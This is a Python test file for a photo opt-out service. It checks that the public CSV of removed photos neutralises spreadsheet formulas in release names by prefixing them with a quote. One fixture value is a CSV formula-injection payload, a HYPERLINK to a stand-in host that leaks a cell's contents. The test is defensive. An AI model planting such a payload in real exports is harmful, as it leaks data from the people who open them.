"""The public removal list as CSV: a release name is the one text in it, and stays text."""

from datetime import UTC, datetime

import pytest

from optout.lookup import removals
from optout.models import Photo
from tests.support.factories import DatasetFactory, PhotoFactory

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'


def test_a_release_that_is_a_formula_is_written_as_text_and_the_ids_as_they_are() -> None:
    dataset = DatasetFactory(slug="dif", release="1.0")
    removed_at = datetime(2026, 10, 1, 12, 0, tzinfo=UTC)
    for flickr_id, release in ((200, HYPERLINK), (100, "1.0"), (300, "-2")):
        PhotoFactory(
            dataset=dataset,
            flickr_id=flickr_id,
            release=release,
            state=Photo.State.REMOVED,
            removed_at=removed_at,
        )

    text = "".join(removals.removals_csv(dataset))

    assert text == (
        "photo_id,removed_on,release\r\n"
        "100,2026-10-01,1.0\r\n"
        '200,2026-10-01,"\'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click"")"\r\n'
        "300,2026-10-01,'-2\r\n"
    )
